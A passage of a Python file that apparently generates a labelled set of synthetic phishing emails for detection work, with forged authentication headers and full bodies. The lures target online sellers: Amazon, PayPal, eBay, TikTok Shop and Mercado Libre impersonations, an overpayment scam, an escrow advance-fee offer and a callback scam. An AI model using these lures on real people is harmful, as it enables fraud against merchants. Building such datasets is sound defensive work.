<p>Sincerely,<br>Seller Performance Team<br>Amazon.com</p></td></tr></table></body></html>
"""
    own = [
        dkim(dom, tok(seed + "s", 32, LOW), seed + "1", sent, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version",
             c="relaxed/simple"),
        dkim("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", seed + "2", sent,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", c="relaxed/simple"),
        "Content-Type: x",
        f"From: Amazon Seller Performance <seller-performance@{dom}>",
        "To: maya@lunaandfern.com",
        f"Subject: {subject}",
        f"Message-ID: {mid_ses(seed)}",
        f"Date: {dt(sent)}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.8.35",
    ]
    own = [x for x in own if x != "Content-Type: x"]
    return mail("luna", "maya@lunaandfern.com", "2024-11-21 13:55:02", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-phish-amazon-disbursement-spoof", "phish", "phishing",
       "Direct spoof of seller-notification@amazon.co.uk from an unrelated VPS (SPF softfail, no DKIM, DMARC fail): "
       "'disbursement failed, update your bank account' with a link to a subdomain-stacked lookalike host")
def p_amazon_disbursement():
    seed = "p14"
    t = utc("2025-03-03 07:40:18")
    sent = ago(t, 5)
    a = Auth("91.92.247.18", "unknown", "seller-notification@amazon.co.uk", "amazon.co.uk", helo="amazon.co.uk",
             spf="softfail", dkim=[], dmarc="fail", p="quarantine")
    url = f"https://sellercentral.amazon.co.uk.deposit-method-update.info/payments/disburse/details?mons_sel_dir_mcid={num(seed + 'm', 14)}"
    subject = "Disbursement failed: action required on your Seller Central account"
    plain = f"""Hello Kestrel & Co Ceramics,

We were unable to transfer your most recent disbursement of £2,486.19 to the bank account on file
because the account details could not be verified by the receiving bank.

To avoid further delays and a hold on future disbursements, please update your deposit method in
Seller Central within 48 hours:

{url}

Once your deposit method has been updated, the disbursement will be initiated again automatically.

Regards,
Amazon Seller Central
Amazon EU S.à r.l., UK Branch
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#0f1111;">
<div style="max-width:620px;margin:0 auto;">
<div style="padding:14px 0;border-bottom:1px solid #ddd;"><b style="font-size:22px;">amazon</b> seller central</div>
<p>Hello Kestrel &amp; Co Ceramics,</p>
<p>We were unable to transfer your most recent disbursement of <b>&pound;2,486.19</b> to the bank account on file because the account details could not be verified by the receiving bank.</p>
<p>To avoid further delays and a hold on future disbursements, please update your deposit method in Seller Central within <b>48 hours</b>:</p>
<p><a href="{url}" style="color:#007185;">Update deposit method</a></p>
<p>Once your deposit method has been updated, the disbursement will be initiated again automatically.</p>
<p>Regards,<br>Amazon Seller Central<br><span style="color:#565959;font-size:12px;">Amazon EU S.&agrave; r.l., UK Branch</span></p>
</div></body></html>
"""
    own = [
        f"Message-ID: <{tok(seed + 'm', 8, UHEX)}-{tok(seed + 'm2', 4, UHEX)}-{tok(seed + 'm3', 4, UHEX)}@amazon.co.uk>",
        "From: Amazon Seller Central <seller-notification@amazon.co.uk>",
        "To: sam@kestrelandco.co.uk",
        f"Subject: {subject}",
        f"Date: {dt(sent, 'uk')}",
        "MIME-Version: 1.0",
        "X-Priority: 1",
    ]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-03-03 07:40:18", a, seed, own,
                alt(plain, html, f"=_{tok(seed + 'b', 32, HEX)}"))


@entry("b37-phish-ebay-overpayment-buyer", "phish", "phishing",
       "Gmail 'buyer' wants the seller's dinner set for a daughter overseas, will pay extra via PayPal for a "
       "private courier and asks for the PayPal address: overpayment / fake-payment marketplace scam opener")
def p_ebay_overpay():
    seed = "p15"
    t = utc("2024-07-02 22:10:55")
    sent = ago(t, 3)
    sender = "robert.hensley1961@gmail.com"
    a = Auth("209.85.208.48", "mail-ed1-f48.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    subject = "Speckled Stoneware Dinner Set"
    plain = """Hello,

I saw your Speckled Stoneware Dinner Set on eBay and I want to buy it for my daughter who is getting
married in Lagos next month, it will be a surprise for her. I am ready to pay £480 which is the item
price plus £160 for the shipping through my private courier agent who will come for pickup at your
address, so you don't need to worry about the shipping.

Kindly end the listing and send me your PayPal email so I can make the payment right away, I will pay
the courier charges to you along with the payment and you will send it to the agent when PayPal
confirms. Also send your full name and pickup address.

Thanks and God bless
Robert Hensley

Sent from my iPhone
"""
    html = "<div dir=\"ltr\">" + "".join(
        f"<div>{line or '<br>'}</div>" for line in plain.replace("£", "&pound;").splitlines()) + "</div>\n"
    own = gmail_own(seed, sent, "eastern", "Robert Hensley <robert.hensley1961@gmail.com>", "sam@kestrelandco.co.uk",
                    subject, "kestrelandco.co.uk")
    return mail("kestrel", "sam@kestrelandco.co.uk", "2024-07-02 22:10:55", a, seed, own,
                alt(plain, html, bnd_gmail(seed)))


@entry("b37-phish-paypal-fake-payment-held", "phish", "phishing",
       "Fake 'PayPal' payment-received notice from a lookalike domain: $480 'on hold' until the seller sends the "
       "buyer's courier a $160 fee and a tracking number (overpayment scam follow-up)")
def p_paypal_fake_payment():
    seed = "p16"
    t = utc("2024-08-19 15:33:27")
    sent = ago(t, 2)
    dom = "paypal-notification-center.com"
    a = Auth("172.86.97.40", f"mail.{dom}", f"service@{dom}", dom, dkim=[(dom, "default", "pass")], dmarc=None)
    subject = "Notification of Payment Received from Robert Hensley (robert.hensley1961@gmail.com)"
    plain = f"""PayPal

Hello Maple & Moss Studio,

You've received a payment of $480.00 USD from Robert Hensley (robert.hensley1961@gmail.com).

Transaction ID: 7KD{tok(seed + 'tx', 14, UPPER + DIG)}
Item price: $320.00 USD
Shipping (courier agent): $160.00 USD
Total: $480.00 USD

PAYMENT ON HOLD
This payment has been approved but the funds are on hold for your protection. The buyer has included
$160.00 USD for his courier agent. To release the funds to your PayPal balance you are required to
send the courier charges of $160.00 USD to the agent via Zelle or Cash App and reply to this email with
the payment receipt and the shipping tracking number.

Once we receive the receipt, the full amount of $480.00 USD will be credited to your account immediately.

Thanks,
PayPal

Please do not reply to this email with your password. PayPal will never ask for it.
Copyright © 1999-2024 PayPal, Inc. All rights reserved.
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="background:#f5f7fa;margin:0;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Helvetica Neue,Arial,sans-serif;"><tr><td align="center" style="padding:24px 0;">
<table width="580" style="background:#fff;border-radius:4px;" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 32px;"><b style="font-size:26px;color:#003087;font-style:italic;">Pay</b><b style="font-size:26px;color:#009cde;font-style:italic;">Pal</b></td></tr>
<tr><td style="padding:0 32px 24px;font-size:15px;color:#2c2e2f;line-height:22px;">
<p>Hello Maple &amp; Moss Studio,</p>
<p>You've received a payment of <b>$480.00 USD</b> from Robert Hensley (robert.hensley1961@gmail.com).</p>
<table width="100%" style="font-size:14px;border-top:1px solid #ccc;border-bottom:1px solid #ccc;" cellpadding="6">
<tr><td>Transaction ID</td><td align="right">7KD{tok(seed + 'tx', 14, UPPER + DIG)}</td></tr>
<tr><td>Item price</td><td align="right">$320.00 USD</td></tr>
<tr><td>Shipping (courier agent)</td><td align="right">$160.00 USD</td></tr>
<tr><td><b>Total</b></td><td align="right"><b>$480.00 USD</b></td></tr></table>
<p style="background:#fff4e5;border-left:4px solid #ff9600;padding:10px 14px;"><b>PAYMENT ON HOLD</b><br>This payment has been approved but the funds are on hold for your protection. The buyer has included $160.00 USD for his courier agent. To release the funds to your PayPal balance you are required to send the courier charges of <b>$160.00 USD</b> to the agent via Zelle or Cash App and reply to this email with the payment receipt and the shipping tracking number.</p>
<p>Once we receive the receipt, the full amount of $480.00 USD will be credited to your account immediately.</p>
<p>Thanks,<br>PayPal</p></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6c7378;background:#f2f2f2;">Please do not reply to this email with your password. PayPal will never ask for it.<br>Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "default", seed, sent, "Content-Type:MIME-Version:Reply-To:From:Date:Subject:To:Message-ID"),
        f"Received: from ubuntu-s-1vcpu-1gb-nyc1 (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTP id "
        f"{tok(seed + 'q', 10, UHEX)}\n\tfor <mapleandmoss.studio@gmail.com>; {dt(ago(sent, 1))}",
        "MIME-Version: 1.0",
        "Reply-To: paypalresolution.center24@gmail.com",
        f"From: PayPal <service@{dom}>",
        f"Date: {dt(sent)}",
        f"Subject: {subject}",
        "To: mapleandmoss.studio@gmail.com",
        f"Message-ID: <{tok(seed + 'mid', 24, HEX)}@{dom}>",
    ]
    return mail("maple", "mapleandmoss.studio@gmail.com", "2024-08-19 15:33:27", a, seed, own,
                alt(plain, html, f"===============%s==" % num(seed + 'bd', 19)))


@entry("b37-phish-tiktokshop-violation-ptbr", "phish", "phishing",
       "Portuguese 'TikTok Shop Seller Center' violation notice (store score penalty, appeal within 48 h) from a "
       "lookalike domain via Amazon SES; appeal link goes to a fake Seller Center login")
def p_tiktok_violation():
    seed = "p17"
    t = utc("2025-06-10 14:02:29")
    sent = ago(t, 2)
    dom = "tiktokshop-sellercenter-br.com"
    envf = mid_ses(seed)[1:].split("@")[0] + "@amazonses.com"
    a = Auth("54.240.11.97", "a11-97.smtp-out.amazonses.com", envf, dom,
             dkim=[(dom, tok(seed + "s", 32, LOW), "pass"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass")],
             dmarc="pass", p="none")
    url = f"https://seller.{dom}/appeal/violation?id=VIO{num(seed + 'v', 12)}&lang=pt-BR"
    subject = "[TikTok Shop] Sua loja recebeu uma violação - recorra em até 48 horas"
    plain = f"""TikTok Shop | Seller Center

Olá, Brisa Moda,

Identificamos que um ou mais produtos da sua loja violam a Política de Produtos Proibidos e Restritos
do TikTok Shop (Categoria: Propriedade intelectual - uso indevido de marca).

Penalidade aplicada: -12 pontos na Pontuação de Desempenho da Loja
Status: Vendas suspensas temporariamente
ID da violação: VIO{num(seed + 'v', 12)}

Se você acredita que houve um erro, envie um recurso em até 48 horas. Após esse prazo, a penalidade será
confirmada e os saldos pendentes poderão ficar retidos por até 90 dias.

Enviar recurso: {url}

Atenciosamente,
Equipe TikTok Shop
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f8f8f8;">
<table width="100%" cellspacing="0" cellpadding="0" style="font-family:TikTokText,Arial,sans-serif;"><tr><td align="center" style="padding:26px 0;">
<table width="600" cellspacing="0" cellpadding="0" style="background:#ffffff;">
<tr><td style="background:#000000;padding:18px 28px;color:#ffffff;font-size:18px;font-weight:bold;">TikTok Shop <span style="font-weight:normal;color:#bbbbbb;">| Seller Center</span></td></tr>
<tr><td style="padding:26px 28px;font-size:14px;line-height:22px;color:#161823;">
<p>Olá, <b>Brisa Moda</b>,</p>
<p>Identificamos que um ou mais produtos da sua loja violam a Política de Produtos Proibidos e Restritos do TikTok Shop (Categoria: Propriedade intelectual - uso indevido de marca).</p>
<table width="100%" cellpadding="8" style="background:#fff1f2;border-radius:6px;font-size:13px;"><tr><td>Penalidade aplicada: <b>-12 pontos</b> na Pontuação de Desempenho da Loja<br>Status: <b style="color:#fe2c55;">Vendas suspensas temporariamente</b><br>ID da violação: VIO{num(seed + 'v', 12)}</td></tr></table>
<p>Se você acredita que houve um erro, envie um recurso em até <b>48 horas</b>. Após esse prazo, a penalidade será confirmada e os saldos pendentes poderão ficar retidos por até 90 dias.</p>
<p style="padding:6px 0;"><a href="{url}" style="background:#fe2c55;color:#ffffff;padding:11px 26px;border-radius:4px;text-decoration:none;font-weight:bold;">Enviar recurso</a></p>
<p>Atenciosamente,<br>Equipe TikTok Shop</p></td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, tok(seed + "s", 32, LOW), seed + "1", sent, "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date",
             c="relaxed/simple"),
        dkim("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", seed + "2", sent,
             "Subject:From:To:Content-Type:MIME-Version:Message-ID:Date:Feedback-ID", c="relaxed/simple"),
        f"Subject: {enc(subject)}",
        f"From: TikTok Shop Seller Center <seller-noreply@{dom}>",
        "To: contato@brisamoda.com.br",
        "MIME-Version: 1.0",
        f"Message-ID: {mid_ses(seed)}",
        f"Date: {dt(sent)}",
        f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.11.97",
    ]
    return mail("brisa", "contato@brisamoda.com.br", "2025-06-10 14:02:29", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-phish-mercadolibre-cuenta-inhabilitada", "phish", "phishing",
       "Spanish 'Mercado Libre' notice that the seller account is disabled and MXN 18,430 held in Mercado Pago; "
       "lookalike domain on a VPS, link to a fake Mercado Libre login asking for card and SMS code")
def p_mercadolibre():
    seed = "p18"
    t = utc("2025-02-20 23:41:16")
    sent = ago(t, 4)
    dom = "mercadolibre-seguridad-mx.com"
    a = Auth("45.88.91.203", "unknown", f"notificaciones@{dom}", dom, helo=f"srv{num(seed + 'h', 5)}.hstgr.cloud",
             dkim=[(dom, "default", "pass")], dmarc=None, tls="TLS1_2")
    url = f"https://www.{dom}/cuenta/verificacion?ref={tok(seed + 'r', 16, ALNUM)}&site=MLM"
    subject = "Tu cuenta fue inhabilitada temporalmente - Tienes $18,430.00 retenidos"
    plain = f"""Mercado Libre

Hola, TIENDAQUETZAL.

Detectamos actividad inusual en tu cuenta y la inhabilitamos temporalmente para protegerte. Mientras
tanto, tus publicaciones están pausadas y el dinero disponible en Mercado Pago ($18,430.00 MXN) quedó
retenido.

Para reactivar tu cuenta y liberar tu dinero, confirma tus datos en las próximas 24 horas:
{url}

Si no confirmas tus datos, tu cuenta será dada de baja de forma definitiva.

Saludos,
Equipo de Mercado Libre

Este correo fue enviado automáticamente, por favor no lo respondas.
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ededed;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Proxima Nova,-apple-system,Helvetica Neue,Helvetica,Roboto,Arial,sans-serif;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#fff159;padding:16px 24px;font-size:20px;font-weight:bold;color:#2d3277;">mercado libre</td></tr>
<tr><td style="background:#ffffff;padding:28px 24px;font-size:16px;line-height:24px;color:#333333;">
<p style="font-size:22px;">Hola, TIENDAQUETZAL.</p>
<p>Detectamos actividad inusual en tu cuenta y la <b>inhabilitamos temporalmente</b> para protegerte. Mientras tanto, tus publicaciones están pausadas y el dinero disponible en Mercado Pago (<b>$18,430.00 MXN</b>) quedó retenido.</p>
<p>Para reactivar tu cuenta y liberar tu dinero, confirma tus datos en las próximas 24 horas.</p>
<p style="text-align:center;"><a href="{url}" style="background:#3483fa;color:#ffffff;padding:14px 32px;border-radius:6px;text-decoration:none;font-weight:600;">Confirmar mis datos</a></p>
<p>Si no confirmas tus datos, tu cuenta será dada de baja de forma definitiva.</p>
<p>Saludos,<br>Equipo de Mercado Libre</p></td></tr>
<tr><td style="padding:18px 24px;font-size:12px;color:#999999;">Este correo fue enviado automáticamente, por favor no lo respondas.</td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "default", seed, sent, "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:To:From:Date"),
        f"Received: from [127.0.0.1] (unknown [45.88.91.203])\n\tby srv{num(seed + 'h', 5)}.hstgr.cloud (Postfix) with ESMTPSA id "
        f"{tok(seed + 'q', 11, UHEX)}\n\tfor <ventas@tiendaquetzal.mx>; {dt(ago(sent, 1), 'mexico')}",
        f"Date: {dt(sent, 'mexico')}",
        f"From: Mercado Libre <notificaciones@{dom}>",
        "To: ventas@tiendaquetzal.mx",
        f"Subject: {enc(subject)}",
        f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@{dom}>",
        "MIME-Version: 1.0",
        "X-Mailer: Leaf PHPMailer 2.9",
    ]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2025-02-20 23:41:16", a, seed, own,
                alt(plain, html, bnd_php(seed)))


@entry("b37-phish-ebay-vero-smtp2go", "phish", "phishing",
       "'eBay' VeRO listing-removal notice threatening account restriction, from lookalike ebay-resolutioncentre.com "
       "sent through SMTP2GO; 'Respond' link is an eBay sign-in clone")
def p_ebay_vero():
    seed = "p39"
    t = utc("2024-06-03 12:19:50")
    sent = ago(t, 2)
    dom = "ebay-resolutioncentre.com"
    a = Auth("103.36.108.40", "e2i340.smtp2go.com", f"bounce-{num(seed + 'b', 6)}-{tok(seed + 'b2', 6, LOW)}@em{num(seed + 'em', 6)}.{dom}",
             dom, dkim=[(dom, "s" + num(seed + "sel", 6), "pass"), ("smtpservice.net", "maxzs0.a1-4.dyn", "pass")],
             dmarc=None)
    url = f"https://signin.{dom}/ws/eBayISAPI.dll?SignIn&ru=%2Fvero%2Fcase%2F{num(seed + 'case', 10)}"
    subject = "Your listing has been removed - VeRO notice (action required)"
    plain = f"""eBay

Hi mapleandmoss_studio,

We've removed the following listing because the Verified Rights Owner (VeRO) program participant
"Botanica Home Designs" reported that it infringes their intellectual property rights:

Hand-poured botanical soy candle - Moss & Fern (Item number: 2756{num(seed + 'item', 8)})

This is your second VeRO report. To avoid a selling restriction on your account, you must respond to
this notice within 3 days and confirm your account information.

Respond to this notice: {url}

Thanks,
eBay
"""
    html = f"""<html><body style="margin:0;font-family:'Market Sans',Arial,sans-serif;background:#f7f7f7;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;"><tr><td style="padding:20px 30px;font-size:32px;font-weight:bold;"><span style="color:#e53238;">e</span><span style="color:#0064d2;">b</span><span style="color:#f5af02;">a</span><span style="color:#86b817;">y</span></td></tr>
<tr><td style="padding:0 30px 30px;font-size:15px;line-height:22px;color:#191919;">
<p>Hi mapleandmoss_studio,</p>
<p>We've removed the following listing because the Verified Rights Owner (VeRO) program participant &quot;Botanica Home Designs&quot; reported that it infringes their intellectual property rights:</p>
<p style="background:#f5f5f5;padding:10px;">Hand-poured botanical soy candle - Moss &amp; Fern (Item number: 2756{num(seed + 'item', 8)})</p>
<p>This is your second VeRO report. To avoid a selling restriction on your account, you must respond to this notice within <b>3 days</b> and confirm your account information.</p>
<p><a href="https://track.smtp2go.net/r/{tok(seed + 'trk', 60, ALNUM + '-_')}" style="background:#3665f3;color:#fff;padding:12px 24px;border-radius:20px;text-decoration:none;font-weight:bold;">Respond to this notice</a></p>
<p>Thanks,<br>eBay</p></td></tr></table></body></html>
"""
    own = [
        dkim("smtpservice.net", "maxzs0.a1-4.dyn", seed + "2", sent, "Feedback-ID:X-Smtpcorp-Track:Message-ID:Date:Subject"
             ":To:From:Reply-To:Sender:List-Unsubscribe:List-Unsubscribe-Post"),
        dkim(dom, "s" + num(seed + "sel", 6), seed + "1", sent, "Feedback-ID:X-Smtpcorp-Track:Message-ID:Date:Subject:To"
             ":From:Reply-To:Sender:List-Unsubscribe:List-Unsubscribe-Post"),
        f"Received: from [10.176.58.{num(seed + 'ip', 2)}] (helo=SmtpCorp)\n\tby smtpcorp.com with esmtpsa "
        f"(TLS1.3:ECDHE_X25519__RSA_PSS_RSAE_SHA256__AES_256_GCM:256)\n\t(Exim 4.97.1-S2G)\n\t(envelope-from <bounce-"
        f"{num(seed + 'b', 6)}-{tok(seed + 'b2', 6, LOW)}@em{num(seed + 'em', 6)}.{dom}>)\n\tid 1s{tok(seed + 'ex', 4, ALNUM)}-"
        f"{tok(seed + 'ex2', 6, ALNUM)}-{tok(seed + 'ex3', 2, ALNUM)}\n\tfor mapleandmoss.studio@gmail.com;\n\t{dt(ago(sent, 1))}",
        f"Feedback-ID: {num(seed + 'fid', 6)}m:{num(seed + 'fid2', 6)}aVWh8kP:{num(seed + 'fid3', 6)}s{tok(seed + 'fid4', 8, ALNUM)}:SMTPCORP",
        f"X-Smtpcorp-Track: {tok(seed + 'tr', 12, ALNUM)}.{tok(seed + 'tr2', 12, ALNUM)}",
        f"Message-ID: <{tok(seed + 'mid', 20, ALNUM)}@{dom}>",
        f"Date: {dt(sent)}",
        f"Subject: {subject}",
        "To: mapleandmoss.studio@gmail.com",
        f"From: eBay <vero-noreply@{dom}>",
        "MIME-Version: 1.0",
    ]
    return mail("maple", "mapleandmoss.studio@gmail.com", "2024-06-03 12:19:50", a, seed, own,
                alt(plain, html, bnd_hex(seed, 28)))


@entry("b37-phish-store-acquisition-escrow-fee", "phish", "phishing",
       "'Acquisition partner' on a Zoho-hosted new domain offers EUR 42,000 for the Shopify store and asks the owner "
       "to pay a EUR 350 'escrow listing and verification fee' first: advance-fee scam")
def p_store_acquisition():
    seed = "p35"
    t = utc("2024-12-04 16:09:33")
    sent = ago(t, 3)
    dom = "commerceexitpartners.com"
    a = Auth("136.143.188.51", "sender4-op-o51.zoho.com", f"jordan@{dom}", dom, dkim=[(dom, "zmail", "pass")], dmarc=None)
    subject = "Acquisition interest - casaolivo.es"
    plain = """Hi there,

My name is Jordan Whitfield and I'm an acquisitions associate at Commerce Exit Partners. We work with
private buyers who acquire established Shopify brands in the home & lifestyle space.

One of our buyers came across casaolivo.es and is very interested in acquiring the store, including
the domain, inventory and social accounts. Based on the information we could see publicly, they have
authorised a preliminary offer of €42,000, payable in full through our escrow partner.

The process is simple:
1. We register the listing with our escrow partner (SecureTrade Escrow Ltd).
2. You share read-only access to your Shopify analytics so the buyer can validate revenue.
3. Funds are deposited into escrow and released to you once the store is transferred.

To open the escrow file we require a one-time, fully refundable listing and seller verification fee of
€350, which is returned to you at closing. I can send the payment details as soon as you confirm you
would like to proceed.

This buyer is looking to close before the end of the year, so please let me know at your earliest
convenience.

Best regards,

Jordan Whitfield
Acquisitions Associate
Commerce Exit Partners
www.commerceexitpartners.com
"""
    html = ("<div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\"><div>"
            + "<br>".join(line.replace("&", "&amp;").replace("€", "&euro;") for line in plain.splitlines())
            + "</div></div><br>\n")
    own = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(sent)}; cv=none;\n\td=zohomail.com; s=zohoarc;\n\tb={tok(seed + 'arc', 70, B64)}\n\t"
        f"{tok(seed + 'arc2', 70, B64)}=",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc;\n\tt={epoch(sent)}; "
        f"h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To;\n\tbh={tok(seed + 'abh', 43, B64)}=;\n"
        f"\tb={tok(seed + 'amb', 70, B64)}\n\t{tok(seed + 'amb2', 70, B64)}=",
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i={dom};\n\tspf=pass  smtp.mailfrom=jordan@{dom};\n"
        f"\tdmarc=pass header.from=<jordan@{dom}>",
        dkim(dom, "zmail", seed, sent, "Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:"
             "MIME-Version:Content-Type:Reply-To", c="relaxed/relaxed", q=True),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {epoch(sent)}{num(seed + 'z', 3)}{num(seed + 'z2', 6)}.{num(seed + 'z3', 9)}"
        f"\n\tfor <hola@casaolivo.es>; Wed, 4 Dec 2024 08:09:30 -0800 (PST)",
        f"Date: Wed, 04 Dec 2024 11:09:30 -0500",
        f"From: Jordan Whitfield <jordan@{dom}>",
        "To: \"hola\" <hola@casaolivo.es>",
        f"Message-Id: <{tok(seed + 'm1', 11, HEX)}.{tok(seed + 'm2', 14, HEX)}.{num(seed + 'm3', 19)}@{dom}>",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ]
    return mail("olivo", "hola@casaolivo.es", "2024-12-04 16:09:33", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


def paypal_own(seed: str, sent: datetime, frm: str, to: str, subject: str, type_id: str, extra: list[str] | None = None,
               d: str = "paypal.com") -> list[str]:
    return [
        dkim(d, "pp-dkim1", seed, sent, "Content-Type:Date:PP-Correlation-Id:Subject:To:From:MIME-Version:Message-ID",
             c="relaxed/relaxed"),
        f"X-PP-REQUESTED-TIME: {epoch(sent)}{num(seed + 'ms', 3)}",
        f"Date: {dt(sent, 'pacific')}",
        f"Message-ID: <{tok(seed + 'ppm', 13, HEX)}.{epoch(sent)}{num(seed + 'ms', 3)}@{d}>",
        f"Subject: {enc(subject)}",
        f"To: {to}",
        f"From: {frm}",
        "MIME-Version: 1.0",
        f"X-Email-Type-Id: {type_id}",
        "X-XPT-XSL-Name: nodeTemplate",
        f"PP-Correlation-Id: {tok(seed + 'cor', 13, HEX)}",
        f"X-PP-Email-transmission-Id: {tok(seed + 'tx1', 8, HEX)}-{tok(seed + 'tx2', 4, HEX)}-{tok(seed + 'tx3', 4, HEX)}-"
        f"{tok(seed + 'tx4', 4, HEX)}-{tok(seed + 'tx5', 12, HEX)}",
    ] + (extra or [])


def paypal_auth(seed: str, d: str = "paypal.com") -> Auth:
    return Auth("173.0.84.226", "mx2.slc.paypal.com", f"service@{d}", d, dkim=[(d, "pp-dkim1", "pass")], p="reject")


PP_FOOT = ("Help & Contact | Security | Apps\n\nPayPal is committed to preventing fraudulent emails. Emails from PayPal will "
           "always contain your full name.\n\nCopyright © 1999-2025 PayPal, Inc. All rights reserved. PayPal is "
           "located at 2211 N. First St., San Jose, CA 95131.\n")


@entry("b37-phish-paypal-invoice-callback", "phish", "phishing",
       "Genuine PayPal invoice (service@paypal.com, full SPF/DKIM/DMARC pass) created by a scammer account: the "
       "seller note claims a $749.99 crypto purchase and gives a phone number to call to cancel (callback scam)")
def p_paypal_invoice():
    seed = "p19"
    t = utc("2024-12-09 17:26:41")
    sent = ago(t, 2)
    a = paypal_auth(seed)
    inv = f"INV2-{tok(seed + 'i1', 4, UPPER + DIG)}-{tok(seed + 'i2', 4, UPPER + DIG)}-{tok(seed + 'i3', 4, UPPER + DIG)}-{tok(seed + 'i4', 4, UPPER + DIG)}"
    url = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = ("There is evidence that your PayPal account has been accessed fraudulently. We have charged $749.99 USD "
            "for a Bitcoin purchase from your account today. If you did not authorize this transaction, please "
            "call our billing desk at +1 (888) 502-0147 within 24 hours to cancel and receive a full refund.")
    subject = "Invoice from Billing Department (0042)"
    plain = f"""Billing Department sent you an invoice for $749.99 USD

Due on receipt

Invoice details
Amount requested: $749.99 USD

Note from seller:
{note}

Invoice number: 0042

View and Pay Invoice: {url}

Don't recognize this invoice?
Report this invoice: https://www.paypal.com/invoice/p/report/{inv}

{PP_FOOT}"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:PayPalOpen-Regular,Helvetica Neue,Arial,sans-serif;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:30px 40px 10px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" alt="PayPal"></td></tr>
<tr><td style="padding:10px 40px;font-size:30px;line-height:38px;color:#001c64;">Billing Department sent you an invoice for $749.99 USD</td></tr>
<tr><td style="padding:4px 40px;font-size:14px;color:#545d68;">Due on receipt</td></tr>
<tr><td style="padding:24px 40px;"><a href="{url}" style="background:#003087;color:#ffffff;padding:12px 30px;border-radius:24px;text-decoration:none;font-weight:bold;font-size:16px;">View and Pay Invoice</a></td></tr>
<tr><td style="padding:10px 40px;font-size:14px;line-height:21px;color:#001435;"><b>Note from seller</b><br>{note}</td></tr>
<tr><td style="padding:10px 40px;font-size:14px;color:#001435;">Invoice number: 0042<br>Amount requested: $749.99 USD</td></tr>
<tr><td style="padding:20px 40px;font-size:13px;color:#545d68;"><b>Don't recognize this invoice?</b><br><a href="https://www.paypal.com/invoice/p/report/{inv}" style="color:#0070e0;">Report this invoice</a></td></tr>
<tr><td style="padding:26px 40px;font-size:11px;line-height:16px;color:#6c7378;background:#f5f7fa;">PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br><br>Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></td></tr></table></body></html>
"""
    own = paypal_own(seed, sent, "\"service@paypal.com\" <service@paypal.com>", "maya@lunaandfern.com", subject,
                     "PPX001854", ["Reply-To: Billing Department <billingdesk.refunds@outlook.com>"])
    return mail("luna", "maya@lunaandfern.com", "2024-12-09 17:26:41", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 10)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-phish-paypal-money-request-callback", "phish", "phishing",
       "Genuine PayPal money request (passes authentication) from 'Geek Squad Support' for $649; the request note "
